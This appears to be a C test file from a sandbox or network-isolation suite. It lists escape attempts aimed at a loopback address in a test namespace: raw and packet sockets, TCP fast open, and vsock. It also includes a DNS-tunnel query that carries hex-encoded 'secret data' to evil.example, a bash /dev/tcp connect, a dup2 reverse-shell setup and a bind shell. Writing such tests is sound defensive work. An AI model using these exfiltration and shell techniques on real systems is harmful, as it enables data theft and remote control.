// SPDX-License-Identifier: Apache-2.0

/*
 * Ways to reach another machine.  argv[1] and argv[2] are an address and a port, which the test
 * has put on the loopback device of a network namespace of its own.
 */
#include "attacks.h"

#include <arpa/inet.h>
#include <fcntl.h>
#include <linux/if_packet.h>
#include <linux/vm_sockets.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <netinet/udp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <unistd.h>

#define N_MESSAGES  64
#define NEAR        "10.1.2.3" /* where the other messages go */
#define PROTO_TEST  253 /* RFC 3692 */
#define PATH_BYTES  4096
#define FRAME_BYTES 64

#ifndef IPPROTO_MPTCP
#define IPPROTO_MPTCP 262
#endif

static int make_address(const char *ip, const char *port, struct sockaddr_storage *out,
			socklen_t *ret_len)
{
	struct sockaddr_in *in4 = (struct sockaddr_in *)out;
	struct sockaddr_in6 *in6 = (struct sockaddr_in6 *)out;

	memset(out, 0, sizeof(*out));
	if (inet_pton(AF_INET, ip, &in4->sin_addr) == 1) {
		in4->sin_family = AF_INET;
		in4->sin_port = htons((uint16_t)atoi(port));
		*ret_len = sizeof(*in4);
		return 0;
	}
	if (inet_pton(AF_INET6, ip, &in6->sin6_addr) == 1) {
		in6->sin6_family = AF_INET6;
		in6->sin6_port = htons((uint16_t)atoi(port));
		*ret_len = sizeof(*in6);
		return 0;
	}
	return -EINVAL;
}

/* A connection attempt counts when it was turned down: nobody listens there. */
static int connect_to(char **argv, int type, int protocol, int expected)
{
	struct sockaddr_storage to;
	socklen_t len;
	int fd;

	if (make_address(argv[1], argv[2], &to, &len))
		return -EINVAL;
	fd = socket(to.ss_family, type, protocol);
	if (fd < 0)
		return failure();
	if (connect(fd, (struct sockaddr *)&to, len) == 0)
		return expected ? -EISCONN : 0;
	return errno == expected ? 0 : -errno;
}

static int net_connect(int argc, char **argv)
{
	(void)argc;
	return connect_to(argv, SOCK_STREAM, 0, ECONNREFUSED);
}

/* Nobody answers there. */
static int net_nonblocking(int argc, char **argv)
{
	(void)argc;
	return connect_to(argv, SOCK_STREAM | SOCK_NONBLOCK, 0, EINPROGRESS);
}

static int net_mptcp(int argc, char **argv)
{
	(void)argc;
	return connect_to(argv, SOCK_STREAM, IPPROTO_MPTCP, ECONNREFUSED);
}

static int net_udp_connect(int argc, char **argv)
{
	(void)argc;
	return connect_to(argv, SOCK_DGRAM, 0, 0);
}

static int net_v4mapped(int argc, char **argv)
{
	char mapped[64];
	char *args[] = { argv[0], mapped, argv[2] };

	(void)argc;
	(void)snprintf(mapped, sizeof(mapped), "::ffff:%s", argv[1]);
	return connect_to(args, SOCK_STREAM, 0, ECONNREFUSED);
}

/* Connect a datagram socket to a near address, dissolve that, go elsewhere. */
static int net_afunspec(int argc, char **argv)
{
	struct sockaddr none = { .sa_family = AF_UNSPEC };
	struct sockaddr_storage to;
	socklen_t len;
	int fd = socket(AF_INET, SOCK_DGRAM, 0);

	(void)argc;
	if (make_address(NEAR, "9", &to, &len) || connect(fd, (struct sockaddr *)&to, len) ||
	    connect(fd, &none, sizeof(none)))
		return -errno;
	if (make_address(argv[1], argv[2], &to, &len))
		return -EINVAL;
	return connect(fd, (struct sockaddr *)&to, len) ? -errno : 0;
}

static int net_sendto(int argc, char **argv)
{
	struct sockaddr_storage to;
	socklen_t len;
	int fd;

	(void)argc;
	if (make_address(argv[1], argv[2], &to, &len))
		return -EINVAL;
	fd = socket(to.ss_family, SOCK_DGRAM, 0);
	return sendto(fd, "data", 4, 0, (struct sockaddr *)&to, len) == 4 ? 0 : -errno;
}

/* The socket is connected to a near address; the message goes elsewhere. */
static int net_sendto_other(int argc, char **argv)
{
	struct sockaddr_storage to;
	socklen_t len;
	int fd = socket(AF_INET, SOCK_DGRAM, 0);

	(void)argc;
	if (make_address(NEAR, "9", &to, &len) || connect(fd, (struct sockaddr *)&to, len))
		return -errno;
	if (make_address(argv[1], argv[2], &to, &len))
		return -EINVAL;
	return sendto(fd, "data", 4, 0, (struct sockaddr *)&to, len) == 4 ? 0 : -errno;
}

static int net_sendmsg(int argc, char **argv)
{
	struct sockaddr_storage to;
	char data[] = "data";
	struct iovec vec = { data, 4 };
	struct msghdr msg = { &to, 0, &vec, 1, NULL, 0, 0 };
	int fd = socket(AF_INET, SOCK_DGRAM, 0);

	(void)argc;
	if (make_address(argv[1], argv[2], &to, &msg.msg_namelen))
		return -EINVAL;
	return sendmsg(fd, &msg, 0) == 4 ? 0 : -errno;
}

/* The last of many messages goes elsewhere. */
static int net_sendmmsg_deep(int argc, char **argv)
{
	static struct mmsghdr messages[N_MESSAGES];
	struct sockaddr_storage near_by;
	struct sockaddr_storage to;
	socklen_t len;
	char data[] = "data";
	struct iovec vec = { data, 4 };
	int fd = socket(AF_INET, SOCK_DGRAM, 0);

	(void)argc;
	if (make_address(NEAR, "9", &near_by, &len) || make_address(argv[1], argv[2], &to, &len))
		return -EINVAL;
	for (int i = 0; i < N_MESSAGES; i++) {
		messages[i].msg_hdr.msg_name = i < N_MESSAGES - 1 ? &near_by : &to;
		messages[i].msg_hdr.msg_namelen = len;
		messages[i].msg_hdr.msg_iov = &vec;
		messages[i].msg_hdr.msg_iovlen = 1;
	}
	for (int sent = 0; sent < N_MESSAGES;) {
		int n = sendmmsg(fd, messages + sent, (unsigned int)(N_MESSAGES - sent), 0);

		/* What came back for an earlier one is reported by a later call. */
		if (n <= 0 && errno != ECONNREFUSED)
			return -errno;
		sent += n > 0 ? n : 0;
	}
	return 0;
}

static int net_raw(int argc, char **argv)
{
	struct sockaddr_storage to;
	socklen_t len;
	int fd = socket(AF_INET, SOCK_RAW, PROTO_TEST);

	(void)argc;
	if (fd < 0)
		return errno == EPERM ? skip("no raw sockets for us") : failure();
	if (make_address(argv[1], "0", &to, &len))
		return -EINVAL;
	return sendto(fd, "data", 4, 0, (struct sockaddr *)&to, len) == 4 ? 0 : -errno;
}

static uint16_t checksum(const void *data, size_t len)
{
	const uint16_t *word = data;
	uint32_t sum = 0;

	for (size_t i = 0; i < len / 2; i++)
		sum += word[i];
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

/* net_packet MARK IP PORT: a frame of our own making, past every protocol. */
static int net_packet(int argc, char **argv)
{
	struct sockaddr_ll link = {
		.sll_family = AF_PACKET,
		.sll_protocol = htons(ETH_P_IP),
		.sll_ifindex = (int)if_nametoindex("lo"),
		.sll_halen = ETH_ALEN,
	};
	struct {
		struct iphdr ip;
		struct udphdr udp;
		char data[4];
	} packet = { .data = "data" };
	int fd = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_IP));

	(void)argc;
	if (fd < 0)
		return errno == EPERM ? skip("no packet sockets for us") : failure();
	packet.ip.version = 4;
	packet.ip.ihl = 5;
	packet.ip.ttl = 64;
	packet.ip.protocol = IPPROTO_UDP;
	packet.ip.tot_len = htons(sizeof(packet));
	packet.ip.saddr = htonl(INADDR_LOOPBACK);
	if (inet_pton(AF_INET, argv[1], &packet.ip.daddr) != 1)
		return -EINVAL;
	packet.ip.check = checksum(&packet.ip, sizeof(packet.ip));
	packet.udp.dest = htons((uint16_t)atoi(argv[2]));
	packet.udp.len = htons(sizeof(packet.udp) + sizeof(packet.data));
	return sendto(fd, &packet, sizeof(packet), 0, (struct sockaddr *)&link, sizeof(link)) ==
			       sizeof(packet) ?
		       0 :
		       -errno;
}

/* No connect: the first data brings the connection along. */
static int net_tcp_fastopen(int argc, char **argv)
{
	struct sockaddr_storage to;
	socklen_t len;
	int fd = socket(AF_INET, SOCK_STREAM, 0);

	(void)argc;
	if (make_address(argv[1], argv[2], &to, &len))
		return -EINVAL;
	if (sendto(fd, "data", 4, MSG_FASTOPEN, (struct sockaddr *)&to, len) >= 0)
		return 0;
	if (errno == EOPNOTSUPP)
		return skip("TCP fast open is off");
	return errno == ECONNREFUSED || errno == EINPROGRESS ? 0 : -errno;
}

/* A connect that sends nothing until the first write. */
static int net_fastopen_connect(int argc, char **argv)
{
	struct sockaddr_storage to;
	socklen_t len;
	int one = 1;
	int fd = socket(AF_INET, SOCK_STREAM, 0);

	(void)argc;
	if (make_address(argv[1], argv[2], &to, &len))
		return -EINVAL;
	if (setsockopt(fd, IPPROTO_TCP, TCP_FASTOPEN_CONNECT, &one, sizeof(one)))
		return failure();
	if (connect(fd, (struct sockaddr *)&to, len))
		return errno == ECONNREFUSED ? 0 : -errno;
	if (send(fd, "data", 4, MSG_NOSIGNAL) >= 0)
		return 0;
	return errno == ECONNREFUSED ? 0 : -errno;
}

static int unix_address(const char *name, struct sockaddr_un *out, socklen_t *ret_len)
{
	size_t len = strlen(name);

	memset(out, 0, sizeof(*out));
	out->sun_family = AF_UNIX;
	if (len >= sizeof(out->sun_path))
		return -ENAMETOOLONG;
	memcpy(out->sun_path, name, len);
	if (name[0] == '@')
		out->sun_path[0] = '\0';
	*ret_len = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + len);
	return 0;
}

/* unix_pair NAME AS: listen at the one and connect to the other. */
static int unix_pair(const char *name, const char *as)
{
	struct sockaddr_un address;
	socklen_t len;
	int listener = socket(AF_UNIX, SOCK_STREAM, 0);
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);

	if (unix_address(name, &address, &len) ||
	    bind(listener, (struct sockaddr *)&address, len) || listen(listener, 1))
		return -errno;
	if (unix_address(as, &address, &len))
		return -EINVAL;
	return connect(fd, (struct sockaddr *)&address, len) ? -errno : 0;
}

/* net_unix_symlink MARK SOCKET LINK */
static int net_unix_symlink(int argc, char **argv)
{
	int err;

	(void)argc;
	if (symlink(argv[1], argv[2]))
		return -errno;
	err = unix_pair(argv[1], argv[2]);
	(void)unlink(argv[1]);
	(void)unlink(argv[2]);
	return err;
}

static int net_unix(int argc, char **argv)
{
	int err = unix_pair(argv[1], argv[1]);

	(void)argc;
	(void)unlink(argv[1]);
	return err;
}

/* A question for a name that carries what is stolen. */
static int net_dns_tunnel(int argc, char **argv)
{
	static const char query[] = "\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
				    "\x28"
				    "6368756e6b2d6f662d7365637265742d64617461"
				    "\x04"
				    "evil\x07"
				    "example\x00\x00\x10\x00\x01";
	struct sockaddr_storage to;
	socklen_t len;
	int fd = socket(AF_INET, SOCK_DGRAM, 0);

	(void)argc;
	if (make_address(argv[1], argv[2], &to, &len))
		return -EINVAL;
	return sendto(fd, query, sizeof(query), 0, (struct sockaddr *)&to, len) == sizeof(query) ?
		       0 :
		       -errno;
}

/* The shell connects by itself. */
static int net_bash_devtcp(int argc, char **argv)
{
	char script[256];
	char name[] = "bash";
	char option[] = "-c";
	char *args[] = { name, option, script, argv[0], NULL };
	int status;
	pid_t pid;

	(void)argc;
	if (access("/bin/bash", X_OK))
		return skip("no bash here");
	(void)snprintf(script, sizeof(script), "exec 3<>/dev/tcp/%s/%s || exit 3", argv[1],
		       argv[2]);
	pid = fork();
	if (pid == 0) {
		(void)freopen("/dev/null", "w", stderr);
		(void)execv("/bin/bash", args);
		_exit(127);
	}
	status = wait_status(pid);
	return status == 1 || status == 3 ? 0 : -ECHILD; /* turned down */
}

/* Both ends of a TCP connection over loopback. */
static int loopback(int *ret_here, int *ret_there)
{
	struct sockaddr_in address = {
		.sin_family = AF_INET,
		.sin_addr.s_addr = htonl(INADDR_LOOPBACK),
	};
	socklen_t len = sizeof(address);
	int listener = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

	*ret_here = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (bind(listener, (struct sockaddr *)&address, len) || listen(listener, 1) ||
	    getsockname(listener, (struct sockaddr *)&address, &len) ||
	    connect(*ret_here, (struct sockaddr *)&address, len))
		return -errno;
	*ret_there = accept4(listener, NULL, NULL, SOCK_CLOEXEC);
	(void)close(listener);
	return *ret_there < 0 ? -errno : 0;
}

/* net_dup_shell MARK HOW PROGRAM: fcntl, dup, dup2 or dup3 put the connection on 0 and 1. */
static int net_dup_shell(int argc, char **argv)
{
	char script[256];
	char option[] = "-c";
	char *args[] = { argv[2], option, script, NULL };
	int here = -1;
	int there = -1;
	int err;
	pid_t pid;

	(void)argc;
#ifndef SYS_dup2
	if (strcmp(argv[1], "dup2") == 0)
		return skip("no such call here");
#endif
	err = loopback(&here, &there);
	if (err)
		return err;
	(void)snprintf(script, sizeof(script), ": %s; exit %d", argv[0], PAYLOAD_EXIT);
	pid = fork();
	if (pid == 0) {
		for (int fd = 0; fd < 2; fd++) {
			int got = -1;

			if (strcmp(argv[1], "dup2") == 0) {
				got = dup2(there, fd);
			} else if (strcmp(argv[1], "dup3") == 0) {
				got = dup3(there, fd, 0);
			} else {
				(void)close(fd);
				got = strcmp(argv[1], "dup") == 0 ? dup(there) :
								    fcntl(there, F_DUPFD, fd);
			}
			if (got != fd)
				_exit(1);
		}
		(void)execv(argv[2], args);
		_exit(127);
	}
	(void)shutdown(here, SHUT_WR);
	return payload_ended(pid);
}

/* net_bind_shell MARK IP PORT: waits for a connection, which comes. */
static int net_bind_shell(int argc, char **argv)
{
	struct sockaddr_storage address;
	socklen_t len;
	int one = 1;
	int listener;
	int fd;

	(void)argc;
	if (make_address(argv[1], argv[2], &address, &len))
		return -EINVAL;
	listener = socket(address.ss_family, SOCK_STREAM, 0);
	fd = socket(address.ss_family, SOCK_STREAM, 0);
	if (setsockopt(listener, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one)) ||
	    bind(listener, (struct sockaddr *)&address, len) || listen(listener, 1) ||
	    connect(fd, (struct sockaddr *)&address, len))
		return -errno;
	return accept4(listener, NULL, NULL, 0) < 0 ? -errno : 0;
}

/* net_packet_socket MARK: it is opened, and that is all. */
static int net_packet_socket(int argc, char **argv)
{
	(void)argc;
	(void)argv;
	if (socket(AF_PACKET, SOCK_RAW, 0) >= 0)
		return 0;
	return errno == EPERM ? skip("no packet sockets for us") : failure();
}

/* A socket between machines and their host, at this port of ours; or -errno. */
static int vsock_at(unsigned int cid, const char *port, struct sockaddr_vm *out)
{
	int fd = socket(AF_VSOCK, SOCK_STREAM | SOCK_CLOEXEC, 0);

	memset(out, 0, sizeof(*out));
	out->svm_family = AF_VSOCK;
	out->svm_cid = cid;
	out->svm_port = (unsigned int)atoi(port);
	if (fd < 0 || bind(fd, (struct sockaddr *)out, sizeof(*out)))
		return -errno;
	return fd;
}

/* net_vsock MARK PORT: a door for the host, and for whoever else is on it. */
static int net_vsock(int argc, char **argv)
{
	struct sockaddr_vm address;
	int fd = vsock_at(VMADDR_CID_ANY, argv[1], &address);

	(void)argc;
	if (fd == -EAFNOSUPPORT)
		return skip("no vsock here");
	if (fd < 0)
		return fd;
	return listen(fd, 1) ? -errno : 0;
}

/* net_vsock_connect MARK PORT: only where it cannot leave for the hypervisor. */
static int net_vsock_connect(int argc, char **argv)
{
	struct sockaddr_vm address;
	int listener = vsock_at(VMADDR_CID_LOCAL, argv[1], &address);
	int fd;

	(void)argc;
	if (listener == -EAFNOSUPPORT)
		return skip("no vsock here");
	if (listener == -EADDRNOTAVAIL)
		return skip("no loopback of vsock here");
	if (listener < 0 || listen(listener, 1))
		return listener < 0 ? listener : -errno;
	fd = socket(AF_VSOCK, SOCK_STREAM | SOCK_CLOEXEC, 0);
	return fd < 0 || connect(fd, (struct sockaddr *)&address, sizeof(address)) ? -errno : 0;
}

const struct attack net_attacks[] = {
	{ "net_connect", 2, net_connect },
	{ "net_nonblocking", 2, net_nonblocking },
	{ "net_mptcp", 2, net_mptcp },
	{ "net_udp_connect", 2, net_udp_connect },
	{ "net_v4mapped", 2, net_v4mapped },
	{ "net_afunspec", 2, net_afunspec },
	{ "net_sendto", 2, net_sendto },
	{ "net_sendto_other", 2, net_sendto_other },
	{ "net_sendmsg", 2, net_sendmsg },
	{ "net_sendmmsg_deep", 2, net_sendmmsg_deep },
	{ "net_raw", 1, net_raw },
	{ "net_packet", 2, net_packet },
	{ "net_packet_socket", 0, net_packet_socket },
	{ "net_tcp_fastopen", 2, net_tcp_fastopen },
	{ "net_fastopen_connect", 2, net_fastopen_connect },
	{ "net_unix_symlink", 2, net_unix_symlink },
	{ "net_unix", 1, net_unix },
	{ "net_dns_tunnel", 2, net_dns_tunnel },
	{ "net_bash_devtcp", 2, net_bash_devtcp },
	{ "net_dup_shell", 2, net_dup_shell },
	{ "net_bind_shell", 2, net_bind_shell },
	{ "net_vsock", 1, net_vsock },
	{ "net_vsock_connect", 1, net_vsock_connect },
	{ NULL, 0, NULL },
};
